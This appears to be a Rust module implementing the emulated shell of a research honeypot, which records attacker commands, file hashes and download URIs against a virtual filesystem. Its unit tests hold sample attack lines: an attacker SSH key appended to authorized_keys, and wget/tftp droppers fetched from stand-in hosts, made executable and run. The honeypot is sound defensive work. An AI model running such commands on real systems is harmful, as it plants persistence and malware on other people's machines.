//! The shell interpreter: executes input lines against the virtual
//! filesystem, applies redirections and pipes, and records everything the
//! honeypot needs — commands (known/unknown), file events with SHA-256
//! hashes, URIs, and downloads.
//!
//! # Hot-path memory discipline
//!
//! A farm-scale day replays hundreds of thousands of sessions, so the
//! steady-state execute path is allocation-free:
//!
//! - input lines parse into a reused [`LineBuf`] (one per `sh -c` depth,
//!   pooled in [`SessionScratch`]),
//! - pipeline stdin/stdout thread through reused `String` buffers that swap
//!   rather than reallocate,
//! - recorded commands and URIs are appended to a span arena (`EventLog`)
//!   instead of one `String` per record; [`ShellSession::events`] reads
//!   them in place, and [`ShellSession::take_events`] materialises the
//!   owned [`SessionEvents`] on demand,
//! - scratch sets recycle across sessions through a thread-local pool, so the
//!   warm path of `new → execute* → drop` touches the allocator only for
//!   genuine payload data (file writes, downloads).
//!
//! The compatibility API ([`ShellSession::execute`] returning rendered
//! output) clones the rendered text; the simulator uses the `_quiet`
//! variants, which do not.

use std::cell::RefCell;
use std::mem;
use std::sync::Arc;

use hf_hash::{Digest, Sha256};

use crate::builtins::{self, push_utf8_lossy, PathScratch};
use crate::lexer::{CmdView, LineBuf, RedirView, Words};
use crate::profile::SystemProfile;
use crate::uri;
use crate::vfs::{resolve_path_into, Vfs};

/// Supplies the bodies of "remote" resources for wget/curl/tftp/ftpget.
///
/// The simulator implements this with campaign-specific payloads so the same
/// URI always yields the same bytes (and therefore the same hash) — exactly
/// how real campaigns distribute identical droppers from many URLs.
/// (`Send` so live front-ends can hold sessions across task await points.)
pub trait RemoteFetcher: Send {
    /// Fetch the body behind a URI, or `None` for unreachable hosts.
    fn fetch(&mut self, uri: &str) -> Option<Vec<u8>>;

    /// If the fetcher already knows the hash of the body behind `uri`, return
    /// it so the interpreter can skip re-hashing the download. Must equal
    /// `Sha256::digest(&body)` for the body `fetch` would return.
    fn digest_hint(&self, _uri: &str) -> Option<Digest> {
        None
    }
}

/// A fetcher for which every host is unreachable. Useful in tests and for the
/// live front-end's safe default (the honeypot must never actually download
/// attacker-controlled content in this reproduction).
pub struct NullFetcher;

impl RemoteFetcher for NullFetcher {
    fn fetch(&mut self, _uri: &str) -> Option<Vec<u8>> {
        None
    }
}

/// A fetcher that deterministically fabricates a body from the URI itself, so
/// the live front-end still produces stable hashes without network access.
pub struct SyntheticFetcher;

impl RemoteFetcher for SyntheticFetcher {
    fn fetch(&mut self, uri: &str) -> Option<Vec<u8>> {
        let mut body = b"\x7fELF<synthetic:".to_vec();
        body.extend_from_slice(uri.as_bytes());
        body.push(b'>');
        Some(body)
    }
}

/// Whether a file event created a new file or modified an existing one.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FileOp {
    /// The path did not previously exist.
    Created,
    /// The path existed and its content changed.
    Modified,
}

/// A file creation/modification recorded during the session, with the hash of
/// the resulting content — the paper's unit of campaign identity.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FileEvent {
    /// Absolute path inside the VFS.
    pub path: String,
    /// Created vs modified.
    pub op: FileOp,
    /// Size of the file after the operation.
    pub size: usize,
    /// SHA-256 of the file content after the operation.
    pub sha256: Digest,
}

/// One executed command (one simple command of a pipeline).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandRecord {
    /// The command as typed (argv re-joined).
    pub input: String,
    /// Whether the honeypot emulated it ("known") or merely recorded it.
    pub known: bool,
}

/// Everything observable recorded over a session's shell phase.
#[derive(Debug, Clone, Default)]
pub struct SessionEvents {
    /// Commands in execution order.
    pub commands: Vec<CommandRecord>,
    /// File events in order.
    pub file_events: Vec<FileEvent>,
    /// URIs referenced by commands (deduplicated, sorted).
    pub uris: Vec<String>,
    /// Downloads that completed: (uri, hash of the body).
    pub downloads: Vec<(String, Digest)>,
}

/// Result of executing one input line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ExecResult {
    /// Concatenated terminal output.
    pub rendered: String,
    /// Number of simple commands executed.
    pub commands_run: usize,
    /// Whether the client asked to exit (`exit` / `logout`).
    pub exited: bool,
}

/// Result of a quiet (no rendered output) execution — the simulator's path.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct QuietExec {
    /// Number of simple commands executed.
    pub commands_run: usize,
    /// Whether the client asked to exit (`exit` / `logout`).
    pub exited: bool,
}

/// Append-only span arena for per-session observables. Command inputs and
/// URIs live as byte ranges into one shared `text` buffer; only
/// [`ShellSession::take_events`] materialises owned strings.
#[derive(Debug, Default)]
pub(crate) struct EventLog {
    text: String,
    /// (start, end, known) spans into `text`.
    commands: Vec<(u32, u32, bool)>,
    /// (start, end) spans into `text`.
    pub(crate) uris: Vec<(u32, u32)>,
    pub(crate) file_events: Vec<FileEvent>,
    pub(crate) downloads: Vec<(String, Digest)>,
}

impl EventLog {
    fn clear(&mut self) {
        self.text.clear();
        self.commands.clear();
        self.uris.clear();
        self.file_events.clear();
        self.downloads.clear();
    }
}

/// The events a session has accumulated, borrowed from its arena (see
/// [`ShellSession::events`]).
#[derive(Clone, Copy)]
pub struct EventsView<'a> {
    log: &'a EventLog,
}

impl<'a> EventsView<'a> {
    /// Commands in execution order: the input as typed, and whether it was
    /// known.
    pub fn commands(self) -> impl ExactSizeIterator<Item = (&'a str, bool)> {
        let text = self.log.text.as_str();
        (self.log.commands.iter()).map(move |&(s, e, known)| (&text[s as usize..e as usize], known))
    }

    /// URIs in the order commands referenced them, repeats included.
    pub fn uris(self) -> impl ExactSizeIterator<Item = &'a str> {
        let text = self.log.text.as_str();
        (self.log.uris.iter()).map(move |&(s, e)| &text[s as usize..e as usize])
    }

    /// File events in order.
    pub fn file_events(self) -> &'a [FileEvent] {
        &self.log.file_events
    }

    /// Completed downloads in order: (uri, hash of the body).
    pub fn downloads(self) -> &'a [(String, Digest)] {
        &self.log.downloads
    }
}

/// Per-`sh -c`-depth line state: the parse buffer plus the pipeline's
/// stdin/stdout threading buffers and the line's rendered output.
#[derive(Debug, Default)]
struct LineScratch {
    buf: LineBuf,
    stdin: String,
    stdout: String,
    rendered: String,
    input_redirect: String,
}

/// Reusable per-session scratch. Recycled across sessions through a
/// thread-local pool so warm sessions never re-grow their buffers.
///
/// One `LineScratch` slot per `sh -c` depth reached so far: top level is
/// depth 0 and re-entry is allowed while `depth < 4`, so at most five. The
/// slots live on the heap, so a session (and the honeypot driver holding
/// it) stays small to move.
#[derive(Debug, Default)]
pub struct SessionScratch {
    lines: Vec<LineScratch>,
    paths: PathScratch,
    spare_events: EventLog,
    spare_cwd: String,
}

thread_local! {
    static SCRATCH_POOL: RefCell<Vec<SessionScratch>> = const { RefCell::new(Vec::new()) };
}

const SCRATCH_POOL_CAP: usize = 8;

fn scratch_from_pool() -> SessionScratch {
    SCRATCH_POOL
        .with(|p| p.borrow_mut().pop())
        .unwrap_or_default()
}

fn scratch_to_pool(scratch: SessionScratch) {
    SCRATCH_POOL.with(|p| {
        let mut pool = p.borrow_mut();
        if pool.len() < SCRATCH_POOL_CAP {
            pool.push(scratch);
        }
    });
}

/// An interactive shell session bound to one honeypot login.
pub struct ShellSession {
    vfs: Vfs,
    cwd: String,
    /// Shared with the node's config: starting a session copies no string.
    profile: Arc<SystemProfile>,
    fetcher: Box<dyn RemoteFetcher>,
    events: EventLog,
    exited: bool,
    /// Recursion guard for `sh -c`.
    depth: u32,
    scratch: SessionScratch,
}

impl ShellSession {
    /// Start a session on a freshly seeded filesystem. This builds the
    /// whole image; a honeypot node builds it once and starts each session
    /// on it with [`ShellSession::on_image`].
    pub fn new(profile: impl Into<Arc<SystemProfile>>, fetcher: Box<dyn RemoteFetcher>) -> Self {
        let profile = profile.into();
        let image = Vfs::seeded(&profile);
        Self::on_image(profile, &image, fetcher)
    }

    /// Start a session on a private copy-on-write view of `image`, the
    /// node's seeded filesystem: the view costs one reference count, and
    /// the session's writes never reach `image`. With a warm scratch pool
    /// on this thread, starting (and dropping) a session allocates nothing.
    pub fn on_image(
        profile: Arc<SystemProfile>,
        image: &Vfs,
        fetcher: Box<dyn RemoteFetcher>,
    ) -> Self {
        let mut scratch = scratch_from_pool();
        let events = mem::take(&mut scratch.spare_events);
        let mut cwd = mem::take(&mut scratch.spare_cwd);
        cwd.clear();
        cwd.push_str("/root");
        ShellSession {
            vfs: image.clone(),
            cwd,
            profile,
            fetcher,
            events,
            exited: false,
            depth: 0,
            scratch,
        }
    }

    /// The shell prompt, as the honeypot would print it.
    pub fn prompt(&self) -> String {
        format!("root@{}:{}# ", self.profile.hostname, self.cwd)
    }

    /// Has the client exited?
    pub fn exited(&self) -> bool {
        self.exited
    }

    /// Current working directory.
    pub fn cwd(&self) -> &str {
        &self.cwd
    }

    /// Read-only view of the VFS (tests, forensics tooling).
    pub fn vfs(&self) -> &Vfs {
        &self.vfs
    }

    /// Take the accumulated events as owned [`SessionEvents`], resetting
    /// the log (arena capacity is kept). The honeypot reads
    /// [`ShellSession::events`] instead, which copies nothing.
    pub fn take_events(&mut self) -> SessionEvents {
        let view = self.events();
        let commands = view
            .commands()
            .map(|(input, known)| CommandRecord {
                input: input.to_string(),
                known,
            })
            .collect();
        let mut uris: Vec<String> = view.uris().map(str::to_string).collect();
        uris.sort();
        uris.dedup();
        let ev = &mut self.events;
        let events = SessionEvents {
            commands,
            file_events: ev.file_events.drain(..).collect(),
            uris,
            downloads: ev.downloads.drain(..).collect(),
        };
        ev.clear();
        events
    }

    /// The events accumulated since the last [`ShellSession::clear_events`]
    /// (or [`ShellSession::take_events`]), borrowed from the session's
    /// arena.
    pub fn events(&self) -> EventsView<'_> {
        EventsView { log: &self.events }
    }

    /// Forget the accumulated events, keeping the arena's capacity.
    pub fn clear_events(&mut self) {
        self.events.clear();
    }

    /// Execute one input line (may contain multiple statements), returning
    /// the rendered terminal output. The render is the one owned allocation;
    /// front-ends that do not echo output should use
    /// [`ShellSession::execute_parsed_quiet`].
    pub fn execute(&mut self, line: &str) -> ExecResult {
        let commands_run = self.run_line_at_depth(line);
        let rendered = self.scratch.lines[self.depth as usize].rendered.clone();
        ExecResult {
            rendered,
            commands_run,
            exited: self.exited,
        }
    }

    /// Execute a pre-parsed line without materialising rendered output — the
    /// simulator's prepared-script path (parse once per campaign variant,
    /// execute per session).
    pub fn execute_parsed_quiet(&mut self, buf: &LineBuf) -> QuietExec {
        let d = self.depth as usize;
        let mut ls = self.take_line_scratch(d);
        ls.rendered.clear();
        let commands_run = self.run_statements(buf, &mut ls);
        self.scratch.lines[d] = ls;
        QuietExec {
            commands_run,
            exited: self.exited,
        }
    }

    /// Parse and run `line` in the current depth's scratch slot, leaving the
    /// rendered output in that slot. Returns the simple-command count.
    fn run_line_at_depth(&mut self, line: &str) -> usize {
        let d = self.depth as usize;
        let mut ls = self.take_line_scratch(d);
        let mut buf = mem::take(&mut ls.buf);
        buf.parse(line);
        ls.rendered.clear();
        let commands_run = self.run_statements(&buf, &mut ls);
        ls.buf = buf;
        self.scratch.lines[d] = ls;
        commands_run
    }

    /// Take depth `d`'s line scratch out of its slot (the caller puts it
    /// back), adding the slot the first time this scratch reaches `d`.
    fn take_line_scratch(&mut self, d: usize) -> LineScratch {
        let lines = &mut self.scratch.lines;
        if lines.len() <= d {
            lines.resize_with(d + 1, LineScratch::default);
        }
        mem::take(&mut lines[d])
    }

    /// Run all statements of a parsed line. `ls` carries the pipeline
    /// buffers; it must not alias `self.scratch` (callers take it out of its
    /// slot first).
    fn run_statements(&mut self, buf: &LineBuf, ls: &mut LineScratch) -> usize {
        // Record URIs from every parsed command before executing anything:
        // even commands the emulation fails on — or that sit after an `exit`
        // on the same line — get their URIs recorded (paper, Section 4).
        for stmt in buf.statements() {
            for cmd in stmt.commands() {
                uri::record_from_argv(cmd.argv(), &mut self.events.text, &mut self.events.uris);
            }
        }
        let mut commands_run = 0;
        for stmt in buf.statements() {
            if self.exited {
                break;
            }
            let n = stmt.pipeline_len();
            commands_run += n;
            ls.stdin.clear();
            for (i, cmd) in stmt.commands().enumerate() {
                ls.stdout.clear();
                self.run_simple(cmd, ls);
                if i + 1 == n {
                    ls.rendered.push_str(&ls.stdout);
                } else {
                    // Thread stdout → next command's stdin.
                    mem::swap(&mut ls.stdin, &mut ls.stdout);
                }
            }
        }
        commands_run
    }

    /// Run a single simple command with redirections, appending its effective
    /// stdout to `ls.stdout` (cleared by the caller).
    fn run_simple(&mut self, cmd: CmdView<'_>, ls: &mut LineScratch) {
        let LineScratch {
            stdin,
            stdout,
            input_redirect,
            ..
        } = ls;

        if cmd.argv().is_empty() {
            // Bare redirection like `> file` truncates/creates the file.
            for r in cmd.redirs() {
                if let RedirView::Out(t) = r {
                    self.write_redirect(t, "", false);
                }
            }
            return;
        }

        // Resolve stdin: `< file` beats pipe input.
        let mut has_input_redirect = false;
        for r in cmd.redirs() {
            if let RedirView::In(src) = r {
                resolve_path_into(&self.cwd, src, &mut self.scratch.paths.a);
                if let Ok(content) = self.vfs.read_file(&self.scratch.paths.a) {
                    input_redirect.clear();
                    push_utf8_lossy(input_redirect, content);
                    has_input_redirect = true;
                }
            }
        }
        let effective_stdin: &str = if has_input_redirect {
            input_redirect
        } else {
            stdin
        };

        let known = self.dispatch(cmd.argv(), effective_stdin, stdout);

        // Record the command as typed, including redirections — Cowrie logs
        // the full input, and `echo key >> …/authorized_keys` is one of the
        // paper's headline commands (Table 3).
        let start = self.events.text.len() as u32;
        {
            let text = &mut self.events.text;
            let mut first = true;
            for w in cmd.argv().iter() {
                if !first {
                    text.push(' ');
                }
                first = false;
                text.push_str(w);
            }
            for r in cmd.redirs() {
                match r {
                    RedirView::Out(t) => {
                        text.push_str(" > ");
                        text.push_str(t);
                    }
                    RedirView::Append(t) => {
                        text.push_str(" >> ");
                        text.push_str(t);
                    }
                    RedirView::In(t) => {
                        text.push_str(" < ");
                        text.push_str(t);
                    }
                    RedirView::Err(t) => {
                        text.push_str(" 2>");
                        text.push_str(t);
                    }
                    RedirView::ErrToOut => text.push_str(" 2>&1"),
                }
            }
        }
        let end = self.events.text.len() as u32;
        self.events.commands.push((start, end, known));

        // Apply output redirections.
        let mut redirected = false;
        for r in cmd.redirs() {
            match r {
                RedirView::Out(t) => {
                    self.write_redirect(t, stdout, false);
                    redirected = true;
                }
                RedirView::Append(t) => {
                    self.write_redirect(t, stdout, true);
                    redirected = true;
                }
                RedirView::Err(t) if t != "/dev/null" => {
                    // bash creates/truncates the stderr target.
                    self.write_redirect(t, "", false);
                }
                _ => {}
            }
        }
        if redirected {
            stdout.clear();
        }
    }

    /// Write redirected output into the VFS and record the file event.
    fn write_redirect(&mut self, target: &str, content: &str, append: bool) {
        resolve_path_into(&self.cwd, target, &mut self.scratch.paths.a);
        let abs = &self.scratch.paths.a;
        if abs == "/dev/null" {
            return;
        }
        let existed = if append {
            self.vfs.append_file(abs, content.as_bytes())
        } else {
            self.vfs.write_file(abs, content.as_bytes(), 0o644)
        };
        if let Ok(existed) = existed {
            record_file_event(&self.vfs, &mut self.events.file_events, abs, existed);
        }
    }

    /// Dispatch to a builtin, a file execution, or "command not found";
    /// returns whether the command was "known". Output is appended to `out`.
    fn dispatch(&mut self, argv: Words<'_>, stdin: &str, out: &mut String) -> bool {
        let Some(name) = argv.first() else {
            return true;
        };

        // Prefix commands that wrap another command.
        if matches!(name, "nohup" | "sudo" | "exec") && argv.len() > 1 {
            return self.dispatch(argv.tail(1), stdin, out);
        }

        // Executing a path (./mal, /tmp/x): succeed quietly if it exists and
        // is executable — the behaviour droppers rely on.
        if name.contains('/') {
            resolve_path_into(&self.cwd, name, &mut self.scratch.paths.a);
            if !self.vfs.exists(&self.scratch.paths.a) {
                use std::fmt::Write as _;
                let _ = writeln!(out, "-bash: {name}: No such file or directory");
            }
            return true;
        }

        let handled = {
            let mut ctx = builtins::Ctx {
                vfs: &mut self.vfs,
                cwd: &mut self.cwd,
                profile: &self.profile,
                fetcher: self.fetcher.as_mut(),
                file_events: &mut self.events.file_events,
                downloads: &mut self.events.downloads,
                exited: &mut self.exited,
            };
            builtins::run(&mut ctx, argv, stdin, out, &mut self.scratch.paths)
        };
        if handled {
            return true;
        }

        // `sh -c CMD` re-enters the interpreter (bounded depth).
        if matches!(name, "sh" | "bash" | "ash") {
            if let Some(script) = flag_c_argument(argv) {
                if self.depth < 4 {
                    self.depth += 1;
                    let inner = self.depth as usize;
                    self.run_line_at_depth(script);
                    self.depth -= 1;
                    out.push_str(&self.scratch.lines[inner].rendered);
                    return true;
                }
            }
            // `sh` consuming a piped script: emulate silently.
            return true;
        }
        use std::fmt::Write as _;
        let _ = writeln!(out, "-bash: {name}: command not found");
        false
    }
}

impl Drop for ShellSession {
    fn drop(&mut self) {
        // Recycle the scratch set (with the cleared event arena stashed
        // inside) for the next session on this thread.
        let mut events = mem::take(&mut self.events);
        events.clear();
        let mut scratch = mem::take(&mut self.scratch);
        scratch.spare_events = events;
        scratch.spare_cwd = mem::take(&mut self.cwd);
        scratch_to_pool(scratch);
    }
}

/// Record a file event by hashing the file's current content.
fn record_file_event(vfs: &Vfs, file_events: &mut Vec<FileEvent>, abs: &str, existed: bool) {
    let content = match vfs.read_file(abs) {
        Ok(c) => c,
        Err(_) => return,
    };
    file_events.push(FileEvent {
        path: abs.to_string(),
        op: if existed {
            FileOp::Modified
        } else {
            FileOp::Created
        },
        size: content.len(),
        sha256: Sha256::digest(content),
    });
}

/// Extract the argument of `-c` from an argv.
fn flag_c_argument<'a>(argv: Words<'a>) -> Option<&'a str> {
    let mut idx = 0;
    while let Some(w) = argv.get(idx) {
        if w == "-c" {
            return argv.get(idx + 1);
        }
        idx += 1;
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn session() -> ShellSession {
        ShellSession::new(SystemProfile::default(), Box::new(SyntheticFetcher))
    }

    #[test]
    fn uname_renders_profile() {
        let mut sh = session();
        let r = sh.execute("uname -a");
        assert!(r.rendered.contains("Linux svr04"));
        assert_eq!(r.commands_run, 1);
    }

    #[test]
    fn unknown_command_recorded() {
        let mut sh = session();
        let r = sh.execute("frobnicate --fast");
        assert!(r.rendered.contains("command not found"));
        let ev = sh.take_events();
        assert_eq!(ev.commands.len(), 1);
        assert!(!ev.commands[0].known);
    }

    #[test]
    fn redirect_creates_file_event() {
        let mut sh = session();
        sh.execute("echo hello > /tmp/x");
        let ev = sh.take_events();
        assert_eq!(ev.file_events.len(), 1);
        let fe = &ev.file_events[0];
        assert_eq!(fe.path, "/tmp/x");
        assert_eq!(fe.op, FileOp::Created);
        assert_eq!(fe.sha256, Sha256::digest(b"hello\n"));
    }

    #[test]
    fn append_to_existing_is_modification() {
        let mut sh = session();
        sh.execute("echo a > /tmp/k");
        sh.execute("echo b >> /tmp/k");
        let ev = sh.take_events();
        assert_eq!(ev.file_events.len(), 2);
        assert_eq!(ev.file_events[1].op, FileOp::Modified);
        assert_eq!(ev.file_events[1].sha256, Sha256::digest(b"a\nb\n"));
    }

    #[test]
    fn trojan_ssh_key_scenario() {
        // The paper's H1: echo an attacker key into authorized_keys.
        let mut sh = session();
        sh.execute(
            "mkdir -p /root/.ssh && echo 'ssh-rsa AAAAB3Nza...' >> /root/.ssh/authorized_keys",
        );
        let ev = sh.take_events();
        assert_eq!(ev.file_events.len(), 1);
        assert_eq!(ev.file_events[0].path, "/root/.ssh/authorized_keys");
        // Same command on a new session yields the same hash — campaign identity.
        let mut sh2 = session();
        sh2.execute(
            "mkdir -p /root/.ssh && echo 'ssh-rsa AAAAB3Nza...' >> /root/.ssh/authorized_keys",
        );
        let ev2 = sh2.take_events();
        assert_eq!(ev.file_events[0].sha256, ev2.file_events[0].sha256);
    }

    #[test]
    fn wget_downloads_and_hashes() {
        let mut sh = session();
        let r = sh.execute("cd /tmp; wget http://198.51.100.1/bot.sh");
        assert!(r.rendered.contains("bot.sh"));
        let ev = sh.take_events();
        assert_eq!(ev.uris, vec!["http://198.51.100.1/bot.sh".to_string()]);
        assert_eq!(ev.downloads.len(), 1);
        assert_eq!(ev.file_events.len(), 1);
        assert_eq!(ev.file_events[0].path, "/tmp/bot.sh");
    }

    #[test]
    fn null_fetcher_fails_cleanly() {
        let mut sh = ShellSession::new(SystemProfile::default(), Box::new(NullFetcher));
        let r = sh.execute("wget http://h/x");
        assert!(r.rendered.contains("failed") || r.rendered.contains("refused"));
        let ev = sh.take_events();
        assert!(ev.downloads.is_empty());
        assert!(ev.file_events.is_empty());
        assert_eq!(ev.uris.len(), 1, "URI recorded even when fetch fails");
    }

    #[test]
    fn pipeline_threads_stdout() {
        let mut sh = session();
        let r = sh.execute("cat /proc/cpuinfo | grep 'model name' | head -1");
        assert_eq!(r.rendered.lines().count(), 1);
        assert!(r.rendered.contains("model name"));
    }

    #[test]
    fn exit_ends_session() {
        let mut sh = session();
        let r = sh.execute("exit");
        assert!(r.exited);
        assert!(sh.exited());
        // Statements after exit in the same line are not executed.
        let mut sh2 = session();
        let r2 = sh2.execute("exit; uname");
        assert!(r2.exited);
        assert!(!r2.rendered.contains("Linux"));
    }

    #[test]
    fn sh_dash_c_reenters() {
        let mut sh = session();
        let r = sh.execute("sh -c 'echo nested > /tmp/n'");
        assert!(r.rendered.is_empty());
        let ev = sh.take_events();
        assert_eq!(ev.file_events.len(), 1);
        assert_eq!(ev.file_events[0].path, "/tmp/n");
    }

    #[test]
    fn executing_downloaded_file() {
        let mut sh = session();
        sh.execute("cd /tmp && wget http://h/m && chmod 777 m");
        let r = sh.execute("./m");
        assert_eq!(r.rendered, "");
        let r2 = sh.execute("./missing");
        assert!(r2.rendered.contains("No such file"));
    }

    #[test]
    fn stderr_to_devnull_makes_no_event() {
        let mut sh = session();
        sh.execute("wget http://h/x 2>/dev/null");
        let ev = sh.take_events();
        // only the download's own file event, no /dev/null event
        assert!(ev.file_events.iter().all(|e| e.path != "/dev/null"));
    }

    #[test]
    fn input_redirection_feeds_stdin() {
        let mut sh = session();
        sh.execute("echo 'root:newpw' > /tmp/cred");
        let r = sh.execute("grep root < /tmp/cred");
        assert_eq!(r.rendered, "root:newpw\n");
    }

    #[test]
    fn prompt_shape() {
        let sh = session();
        assert_eq!(sh.prompt(), "root@svr04:/root# ");
    }

    #[test]
    fn multi_file_session() {
        // A few sessions generate >10 file operations (paper: 282 sessions).
        let mut sh = session();
        for i in 0..12 {
            sh.execute(&format!("echo v{i} > /tmp/f{i}"));
        }
        let ev = sh.take_events();
        assert_eq!(ev.file_events.len(), 12);
        let mut hashes: Vec<_> = ev.file_events.iter().map(|e| e.sha256).collect();
        hashes.sort();
        hashes.dedup();
        assert_eq!(hashes.len(), 12, "distinct contents yield distinct hashes");
    }

    #[test]
    fn parsed_quiet_matches_line_execution() {
        for (script, commands_run) in [
            (
                "cd /tmp; wget http://h/a.sh > log 2>&1; chmod 777 a.sh; ./a.sh; frob",
                5,
            ),
            ("echo x > /a; cat /a | grep x; tftp -g -r b.sh 10.0.0.1", 4),
        ] {
            let mut buf = LineBuf::new();
            buf.parse(script);
            let mut a = session();
            a.execute(script);
            let ea = a.take_events();
            let mut b = session();
            let q = b.execute_parsed_quiet(&buf);
            let eb = b.take_events();
            assert_eq!(ea.commands, eb.commands);
            assert_eq!(ea.file_events, eb.file_events);
            assert_eq!(ea.uris, eb.uris);
            assert_eq!(ea.downloads, eb.downloads);
            assert_eq!(q.commands_run, commands_run);
            assert!(!q.exited);
        }
    }

    #[test]
    fn scratch_pool_reuse_is_invisible() {
        // Two sequential sessions (second reuses the first's scratch) must
        // behave identically to fresh ones.
        let out1 = {
            let mut sh = session();
            sh.execute("uname -a; echo hi > /tmp/h; cat /tmp/h")
                .rendered
        };
        let out2 = {
            let mut sh = session();
            sh.execute("uname -a; echo hi > /tmp/h; cat /tmp/h")
                .rendered
        };
        assert_eq!(out1, out2);
    }
}
